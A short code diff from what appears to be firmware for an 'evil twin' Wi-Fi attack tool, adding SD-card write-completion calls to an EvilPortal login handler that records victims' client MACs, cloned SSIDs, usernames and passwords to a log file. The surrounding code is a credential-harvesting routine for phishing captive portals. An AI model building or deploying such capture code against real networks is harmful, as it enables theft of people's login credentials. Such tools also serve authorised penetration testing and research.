@@ -159,6 +159,7 @@ void EvilPortal::handleLogin(AsyncWebServerRequest* request) {
             if (logFile) {
                 logFile.println("timestamp,portal_used,ssid_cloned,client_mac,username,password");
                 logFile.close();
+                SdCardManager::getInstance().finishWrite(log_path);
             } else {
                 LOG(LogLevel::ERROR, "EVILTWIN", "FAILED to create log file!");
             }
@@ -174,6 +175,7 @@ void EvilPortal::handleLogin(AsyncWebServerRequest* request) {
                            victim.username.c_str(),
                            victim.password.c_str());
             logFile.close();
+            SdCardManager::getInstance().finishWrite(log_path);
             LOG(LogLevel::INFO, "EVILTWIN", "Credentials saved to SD card.");
         } else {
             LOG(LogLevel::ERROR, "EVILTWIN", "FAILED to open log file for appending!");